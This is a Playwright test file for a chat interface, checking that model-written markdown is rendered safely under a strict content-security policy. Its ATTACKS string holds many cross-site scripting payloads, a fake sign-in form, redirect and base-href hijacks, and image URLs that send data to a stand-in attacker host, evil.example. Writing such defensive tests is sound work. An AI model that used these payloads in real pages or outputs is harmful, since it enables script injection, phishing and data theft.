"""What a model says can't run script, load anything from elsewhere, or reach beyond its message."""

import urllib.request

from playwright.sync_api import expect

from tests.page.house import House, Tab

# Each alone would be enough, if it worked.
ATTACKS = """\
<script>globalThis.hacked = 'script'</script>

<img src=x onerror="globalThis.hacked = 'onerror'">

![x](https://evil.example/pixel.png)

![x](//evil.example/pixel.png) ![x](/api/logout) ![](https://evil.example/?q=`secret`)

[click](javascript:globalThis.hacked='link') [click](JaVaScRiPt&colon;alert(1)) [click](data:text/html,<script>alert(1)</script>)

[click](vbscript:msgbox) <a href="javascript:globalThis.hacked='a'" onclick="globalThis.hacked='onclick'">raw</a>

<svg onload="globalThis.hacked='svg'"><script>globalThis.hacked='svgscript'</script></svg>

<math><mtext><table><mglyph><style><img src onerror="globalThis.hacked='mxss'"></style></mglyph></table></mtext></math>

<iframe src="https://evil.example/" srcdoc="<script>parent.hacked='frame'</script>"></iframe>

<object data="https://evil.example/x"></object><embed src="https://evil.example/x"><link rel=stylesheet href="https://evil.example/x.css">

<style>.composer { display: none } body { background: url(https://evil.example/bg) }</style>

<div style="position:fixed;inset:0;z-index:9999;background:red" class="scrim" id="app">over everything</div>

<form action="https://evil.example/"><input name="key"><button>Sign in</button></form>

<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">

<video src="https://evil.example/v" autoplay onplay="globalThis.hacked=1"></video><audio src="https://evil.example/a"></audio>

<details open ontoggle="globalThis.hacked='toggle'"><summary>x</summary></details>

<input autofocus onfocus="globalThis.hacked='focus'">

<noscript><p title="</noscript><img src=x onerror=globalThis.hacked='noscript'>">

</div></div></article></main><h1>Broken out</h1>

```html"onmouseover="globalThis.hacked='lang'
<script>globalThis.hacked = 'fence'</script>
```

`<img src=x onerror=globalThis.hacked='code'>` **<img src=x onerror=globalThis.hacked='bold'>**

| <img src=x onerror=globalThis.hacked='cell'> | b |
|---|---|
| <script>globalThis.hacked='td'</script> | ![x](https://evil.example/t.png) |

[ref]: javascript:globalThis.hacked='ref'
[a reference][ref] ![y][pic]

[pic]: https://evil.example/ref.png

<https://evil.example/autolink> <javascript:alert(1)>

THE END
"""


def test_markdown_from_a_model_is_only_shown(tab: Tab) -> None:
    elsewhere: list[str] = []
    tab.page.on("request", lambda asked: elsewhere.append(asked.url) if tab.house.url not in asked.url else None)
    tab.ask(ATTACKS, "echo")
    tab.wait_for_end()
    said = tab.answer.locator(".md")
    expect(said).to_contain_text("THE END")
    tab.page.reload()
    expect(said).to_contain_text("THE END")
    for link in said.locator("a").all():
        href = str(link.get_attribute("href"))
        assert href.startswith(("http://", "https://", "mailto:", "#")), href
        assert link.get_attribute("target") == "_blank"
    allowed = "a blockquote br button code del div em h1 h2 h3 h4 h5 h6 hr i kbd li ol p pre s span strong sub sup"
    tags = said.evaluate("root => [...new Set([...root.querySelectorAll('*')].map(e => e.localName))]")
    assert set(tags) <= {*allowed.split(), "table", "tbody", "td", "th", "thead", "tr", "ul"}
    names = said.evaluate("root => [...root.querySelectorAll('*')].flatMap(e => e.getAttributeNames())")
    assert set(names) <= {"align", "aria-label", "class", "href", "rel", "role", "tabindex", "target", "type"}
    assert tab.page.evaluate("globalThis.hacked") is None
    expect(tab.page.locator("h1", has_text="Broken out")).to_have_count(0)
    expect(tab.message).to_be_visible()
    assert elsewhere == []


def test_what_a_model_says_bit_by_bit_is_as_harmless(tab: Tab) -> None:
    """While it streams, every cut of it is shown once."""
    tab.page.evaluate(
        """() => new MutationObserver((all) => {
            for (const one of all) for (const node of one.addedNodes) if (node.querySelectorAll)
                for (const bad of node.querySelectorAll('script, iframe, img:not([src^=data]), [onerror], [onclick], style'))
                    if (bad.closest('.md')) globalThis.hacked = bad.outerHTML;
        }).observe(document.body, {subtree: true, childList: true})"""
    )
    tab.ask(ATTACKS, "paced")
    expect(tab.answer.locator(".md")).to_contain_text("THE END")
    assert tab.page.evaluate("globalThis.hacked") is None


def test_the_page_is_held_to_its_own_files_and_its_server(house: House) -> None:
    with urllib.request.urlopen(f"{house.url}/", timeout=30) as answer:
        policy, html = answer.headers["content-security-policy"], answer.read().decode()
    assert "default-src 'none'" in policy
    assert "script-src 'self';" in policy
    assert "unsafe" not in policy
    assert "img-src 'self' data:" in policy
    assert "<style" not in html
    assert "<script>" not in html


def test_a_script_that_got_in_all_the_same_would_not_run(tab: Tab, errors: list[str]) -> None:
    tab.page.evaluate(
        """() => {
            const script = document.createElement('script');
            script.textContent = 'globalThis.hacked = 1';
            document.body.append(script);
            document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="globalThis.hacked = 2">');
            document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.example/x.png">');
        }"""
    )
    tab.until(lambda: len(errors) >= 3)
    assert tab.page.evaluate("globalThis.hacked") is None
    errors.clear()
